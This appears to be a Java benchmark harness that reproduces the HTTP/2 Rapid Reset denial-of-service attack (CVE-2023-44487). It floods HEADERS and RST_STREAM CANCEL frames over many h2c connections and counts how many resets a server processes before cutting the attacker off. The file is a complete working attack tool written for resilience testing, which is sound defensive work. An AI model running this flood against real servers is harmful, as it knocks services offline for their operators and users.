package io.switchboard.bench;

import java.io.IOException;
import java.io.PrintStream;
import java.net.InetSocketAddress;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;

/**
 * The Rapid Reset attacker (CVE-2023-44487) of the {@code h2-rapid-reset} scenario: on each of its h2c connections
 * (prior knowledge) it writes the HEADERS of a new stream ({@code GET /plaintext}, END_STREAM) and at once RST_STREAM
 * {@code CANCEL} on it, over and over, and replaces each connection the server sends GOAWAY on or closes, at once, by
 * a new one. The frames
 * are precomputed in chunks of {@value #PAIRS} pairs, each chunk followed by a PING whose payload is its last stream id;
 * a chunk's stream ids are rewritten in place for the next. Single thread, one selector; not thread-safe.
 *
 * <p><b>Counting what the server took.</b> A server that stops an attacker closes the connection with the attacker's
 * bytes unread, so the kernel resets it and what the server sent last (its GOAWAY among it) may be lost; and the
 * bytes written are no count either, since the kernels' buffers hold megabytes. So the attacker keeps at most
 * {@value #CHUNKS_AHEAD} chunks unacknowledged on a connection, and counts on each the streams up to the highest
 * acknowledged by a PING ACK (the server answers a PING after the frames before it) or answered with HEADERS, whichever
 * is higher: a lower bound of the resets the server processed, short by at most {@value #CHUNKS_AHEAD} chunks. With
 * {@value #CHUNKS_AHEAD} chunks on each of 16 connections the server always has work waiting. The PINGs, one per
 * {@value #PAIRS} streams, stay under the PING budgets of Switchboard (50 per 10 s) and Netty.
 *
 * <p>It prints {@code result:} with the resets counted, the seconds, the connections the server stopped (closed
 * while the attack went on), the resets per stopped connection (min, median, max), and the GOAWAY codes seen
 * ({@code none} when a connection closed without one reaching the attacker).
 */
final class RapidResetLoad {
    /** Pairs of HEADERS + RST_STREAM per chunk. */
    static final int PAIRS = 32;
    /** Chunks written but not yet acknowledged by the server's PING ACK, at most, per connection. */
    static final int CHUNKS_AHEAD = 2;
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 0x1;
    private static final int RST_STREAM = 0x3;
    private static final int SETTINGS = 0x4;
    private static final int PING = 0x6;
    private static final int GOAWAY = 0x7;
    private static final int WINDOW_UPDATE = 0x8;
    private static final int ACK = 0x1;
    private static final int CANCEL = 0x8;
    private static final int MAX_WINDOW = Integer.MAX_VALUE;
    /**
     * {@code :method GET} and {@code :scheme http} from the static table, {@code :path /plaintext} and
     * {@code :authority 127.0.0.1} as literals without indexing (RFC 7541): no dynamic table, so every block is alike.
     */
    static final byte[] BLOCK = block();
    /** One HEADERS frame and one RST_STREAM frame. */
    static final int PAIR_LENGTH = 9 + BLOCK.length + 9 + 4;
    /** A chunk: its pairs and the PING. */
    static final int CHUNK_LENGTH = PAIRS * PAIR_LENGTH + 9 + 8;

    private final InetSocketAddress address;
    private final int connections;
    private final Duration duration;
    private final PrintStream out;
    private final ByteBuffer in = ByteBuffer.allocateDirect(64 * 1024);
    private final List<Long> stoppedAfter = new ArrayList<>();
    private final Map<String, Integer> goAways = new TreeMap<>();
    private long resets;
    private long failedConnects;

    RapidResetLoad(String host, int port, int connections, Duration duration, PrintStream out) {
        this.address = new InetSocketAddress(host, port);
        this.connections = connections;
        this.duration = duration;
        this.out = out;
    }

    /** Attacks for the duration; returns 0, or 1 when no reset was counted. */
    int run() throws IOException {
        long start = System.nanoTime();
        long end = start + duration.toNanos();
        try (Selector selector = Selector.open()) {
            for (int i = 0; i < connections; i++) {
                open(selector);
            }
            while (System.nanoTime() < end) {
                selector.select(Math.max(1, (end - System.nanoTime()) / 1_000_000));
                for (SelectionKey key : selector.selectedKeys()) {
                    if (!step(key, (Attack) key.attachment()) && System.nanoTime() < end) {
                        open(selector);
                    }
                }
                selector.selectedKeys().clear();
                if (failedConnects > connections && resets == 0) {
                    break; // nothing listens there
                }
            }
            for (SelectionKey key : selector.keys()) {
                if (key.isValid()) {
                    resets += ((Attack) key.attachment()).taken();
                }
                key.channel().close();
            }
        }
        double seconds = (System.nanoTime() - start) / 1e9;
        List<Long> sorted = new ArrayList<>(stoppedAfter);
        Collections.sort(sorted);
        String perConnection = sorted.isEmpty() ? "-" : sorted.get(0) + "/" + sorted.get(sorted.size() / 2) + "/"
                + sorted.get(sorted.size() - 1);
        out.printf(Locale.ROOT, "result: resets=%d seconds=%.3f errors=%d stopped=%d per_connection=%s goaway=%s%n",
                resets, seconds, failedConnects, stoppedAfter.size(), perConnection,
                goAways.isEmpty() ? "-" : goAways.toString().replace(" ", ""));
        out.flush();
        return resets > 0 ? 0 : 1;
    }

    private void open(Selector selector) throws IOException {
        SocketChannel ch = SocketChannel.open();
        ch.configureBlocking(false);
        ch.setOption(StandardSocketOptions.TCP_NODELAY, true);
        ch.connect(address);
        ch.register(selector, SelectionKey.OP_CONNECT, new Attack());
    }

    /** Handles one ready connection; {@return false when it closed} */
    private boolean step(SelectionKey key, Attack a) {
        SocketChannel ch = (SocketChannel) key.channel();
        try {
            if (key.isConnectable()) {
                ch.finishConnect();
                a.connected = true;
                key.interestOps(SelectionKey.OP_READ | SelectionKey.OP_WRITE);
                return true;
            }
            if (key.isReadable()) {
                if (!read(ch, a) || a.goAwayCode != null) {
                    return closed(key, a); // closed, or told to go away: the attacker moves on at once
                }
                if (a.outstanding < CHUNKS_AHEAD && (key.interestOps() & SelectionKey.OP_WRITE) == 0) {
                    key.interestOps(SelectionKey.OP_READ | SelectionKey.OP_WRITE);
                }
            }
            if (key.isValid() && key.isWritable() && !write(ch, a)) {
                key.interestOps(SelectionKey.OP_READ);
            }
            return true;
        } catch (IOException e) {
            if (!a.connected) {
                failedConnects++;
            }
            return closed(key, a);
        }
    }

    private boolean closed(SelectionKey key, Attack a) {
        key.cancel();
        try {
            key.channel().close();
        } catch (IOException e) {
            // closing a socket the server closed
        }
        if (a.connected) {
            long taken = a.taken();
            resets += taken;
            stoppedAfter.add(taken);
            goAways.merge(a.goAwayCode == null ? "none" : a.goAwayCode, 1, Integer::sum);
        }
        return false;
    }

    /**
     * Writes chunks while fewer than {@link #CHUNKS_AHEAD} wait for their PING ACK. {@return false when it must wait
     * for an ACK, true when the socket took no more}
     */
    private static boolean write(SocketChannel ch, Attack a) throws IOException {
        while (true) {
            if (!a.out.hasRemaining()) {
                if (a.outstanding >= CHUNKS_AHEAD) {
                    return false;
                }
                a.next();
            }
            ch.write(a.out);
            if (a.out.hasRemaining()) {
                return true;
            }
            a.outstanding++;
        }
    }

    /** Reads the server's frames; {@return false at the end of the stream} */
    private boolean read(SocketChannel ch, Attack a) throws IOException {
        while (true) {
            in.clear();
            int n = ch.read(in);
            if (n < 0) {
                return false;
            }
            if (n == 0) {
                return true;
            }
            in.flip();
            a.parse(in);
        }
    }

    /** One attacking connection: its chunk of frames and where it is in the server's frames. */
    private static final class Attack {
        final ByteBuffer out = ByteBuffer.allocateDirect(PREFACE.length + 9 + 6 + 9 + 13 + CHUNK_LENGTH);
        /** The first stream of the chunk in {@link #out}; 0 before the first. */
        int firstStream;
        int outstanding;
        boolean connected;
        /** The highest stream the server acknowledged with a PING ACK or answered with HEADERS. */
        long processed;
        String goAwayCode;
        // the frame being read
        final byte[] header = new byte[9];
        int headerHave;
        int payloadLeft;
        int type;
        final byte[] payload = new byte[8];
        int payloadHave;

        Attack() {
            out.limit(0);
        }

        /** The next chunk; the first is led by the preface, SETTINGS (INITIAL_WINDOW_SIZE 2^31-1), the ACK of the
         * server's SETTINGS (sent blind) and a WINDOW_UPDATE: the server's answers never wait for the attacker. */
        void next() {
            out.clear();
            if (firstStream == 0) {
                firstStream = 1;
                out.put(PREFACE);
                frameHeader(out, 6, SETTINGS, 0, 0);
                out.putShort((short) 0x4).putInt(MAX_WINDOW);
                frameHeader(out, 0, SETTINGS, ACK, 0);
                frameHeader(out, 4, WINDOW_UPDATE, 0, 0);
                out.putInt(MAX_WINDOW - 65_535);
            } else {
                firstStream += 2 * PAIRS;
                if (firstStream < 0 || firstStream > Integer.MAX_VALUE - 2 * PAIRS) {
                    throw new IllegalStateException("stream ids used up");
                }
            }
            chunk(out, firstStream);
            out.flip();
        }

        /** {@return the resets the server is known to have processed} */
        long taken() {
            return (processed + 1) / 2;
        }

        void parse(ByteBuffer in) {
            while (in.hasRemaining()) {
                if (headerHave < 9) {
                    header[headerHave++] = in.get();
                    if (headerHave == 9) {
                        payloadLeft = (header[0] & 0xFF) << 16 | (header[1] & 0xFF) << 8 | header[2] & 0xFF;
                        type = header[3];
                        payloadHave = 0;
                        if (type == HEADERS) {
                            processed = Math.max(processed, ByteBuffer.wrap(header, 5, 4).getInt() & MAX_WINDOW);
                        }
                        if (type == PING && (header[4] & ACK) == 0) {
                            type = -1; // not an answer to ours
                        }
                        if (payloadLeft == 0) {
                            headerHave = 0;
                        }
                    }
                    continue;
                }
                int n = Math.min(payloadLeft, in.remaining());
                for (int i = 0; i < n && payloadHave < 8 && (type == PING || type == GOAWAY); i++) {
                    payload[payloadHave++] = in.get(in.position() + i);
                }
                in.position(in.position() + n);
                payloadLeft -= n;
                if (payloadLeft == 0) {
                    headerHave = 0;
                    frameEnd();
                }
            }
        }

        private void frameEnd() {
            if (payloadHave < 8) {
                return;
            }
            ByteBuffer p = ByteBuffer.wrap(payload);
            if (type == PING) {
                processed = Math.max(processed, p.getLong());
                outstanding--;
            } else if (type == GOAWAY && goAwayCode == null) {
                p.getInt();
                goAwayCode = errorName(p.getInt());
            }
        }
    }

    /** {@link #PAIRS} pairs of HEADERS (END_STREAM, END_HEADERS) and RST_STREAM CANCEL from stream {@code first}, then
     * a PING whose payload is the last of them. */
    static void chunk(ByteBuffer b, int first) {
        int stream = first;
        for (int i = 0; i < PAIRS; i++) {
            stream = first + 2 * i;
            frameHeader(b, BLOCK.length, HEADERS, 0x1 | 0x4, stream);
            b.put(BLOCK);
            frameHeader(b, 4, RST_STREAM, 0, stream);
            b.putInt(CANCEL);
        }
        frameHeader(b, 8, PING, 0, 0);
        b.putLong(stream);
    }

    private static void frameHeader(ByteBuffer b, int length, int type, int flags, int stream) {
        b.put((byte) (length >>> 16)).put((byte) (length >>> 8)).put((byte) length).put((byte) type).put((byte) flags)
                .putInt(stream);
    }

    private static byte[] block() {
        ByteBuffer b = ByteBuffer.allocate(64);
        b.put((byte) 0x82).put((byte) 0x86); // :method GET, :scheme http
        literal(b, 4, "/plaintext");
        literal(b, 1, "127.0.0.1");
        byte[] bytes = new byte[b.position()];
        b.flip().get(bytes);
        return bytes;
    }

    /** A literal field without indexing whose name is static-table entry {@code nameIndex} (under 15). */
    private static void literal(ByteBuffer b, int nameIndex, String value) {
        b.put((byte) nameIndex).put((byte) value.length()).put(value.getBytes(StandardCharsets.US_ASCII));
    }

    /** {@return the fields of the {@code result:} line in {@code output}, or null without one} */
    static Map<String, String> result(String output) {
        for (String line : output.split("\n")) {
            if (line.startsWith("result: ")) {
                Map<String, String> fields = new TreeMap<>();
                for (String field : line.substring("result: ".length()).trim().split(" ")) {
                    int eq = field.indexOf('=');
                    if (eq > 0) {
                        fields.put(field.substring(0, eq), field.substring(eq + 1));
                    }
                }
                return fields;
            }
        }
        return null;
    }

    static String errorName(int code) {
        String[] names = {"NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
            "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR",
            "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"};
        return code >= 0 && code < names.length ? names[code] : "0x" + Integer.toHexString(code);
    }
}
